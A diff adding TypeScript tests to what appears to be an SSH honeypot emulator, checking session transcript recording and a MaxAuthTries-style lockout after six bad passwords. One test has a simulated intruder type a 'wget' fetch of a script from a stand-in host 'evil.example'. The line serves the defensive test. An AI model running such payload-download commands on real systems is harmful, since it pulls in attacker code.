@@ -147,6 +147,19 @@ test('ssh: interactive shell lines become command events; prompt and fs behave',
   c.end()
   const rec = await h.sink.next('session_recorded')
   assert.equal(rec.fields.commands, '4')
+  // the transcript has the header, the keystrokes and the output of this session
+  const file = join(await h.ctx.stateDir(), rec.fields.transcript as string)
+  let lines: { sid: string; ch?: string; d?: string; hdr?: { width: number } }[] = []
+  for (let i = 0; i < 100; i++) {
+    lines = readFileSync(file, 'utf8').trim().split('\n').map((l) => JSON.parse(l) as (typeof lines)[number])
+    if (lines.some((l) => l.ch === 'o' && l.d?.includes('logout'))) break
+    await new Promise((r) => setTimeout(r, 20))
+  }
+  assert.ok(lines.every((l) => l.sid === rec.fields.sid))
+  assert.equal(lines[0]?.hdr?.width, 120)
+  const typed = lines.filter((l) => l.ch === 'i').map((l) => l.d).join('')
+  assert.equal(typed, 'cd /tmp\recho pwned > x.sh && cat x.sh\rwget http://evil.example/x.sh\rexit\r')
+  assert.match(lines.filter((l) => l.ch === 'o').map((l) => l.d).join(''), /pwned\r\nroot@db-prod-3:\/tmp# /)
 })
 
 test('ssh: sftp upload lands in the artifact store with the sent sha256', async (t) => {
@@ -178,4 +191,23 @@ test('ssh: port forwards are refused and logged', async (t) => {
   await assert.rejects(new Promise((resolve, reject) => c.forwardIn('0.0.0.0', 8080, (e) => (e ? reject(e) : resolve(undefined)))))
   const ev2 = await h.sink.next('port_forward_refused', (e) => e.fields.kind === 'tcpip-forward')
   assert.equal(ev2.fields.bind_port, '8080')
+})
+
+test('ssh: the sixth failed password on one connection ends it like MaxAuthTries', { timeout: 40_000 }, async (t) => {
+  const h = await startEmulator(t, 'ssh', { password: 'S3cr3t!' }, PERSONA)
+  let tries = 0
+  const err = await new Promise<Error & { code?: number }>((resolve) => {
+    const c = new ssh2.Client()
+    c.on('error', resolve)
+    c.connect({
+      host: '127.0.0.1', port: h.port(22), username: 'root', readyTimeout: 30_000,
+      authHandler: (_m, _p, next) => next({ type: 'password', username: 'root', password: `guess${++tries}` }),
+    })
+  })
+  assert.equal(err.message, 'Too many authentication failures')
+  assert.equal(err.code, 2)
+  assert.equal(tries, 6)
+  const fails = h.sink.ofType('auth_attempt').map((e) => e.fields.secret_printable)
+  assert.deepEqual(fails, ['guess1', 'guess2', 'guess3', 'guess4', 'guess5', 'guess6'])
+  await h.sink.next('auth_exhausted')
 })
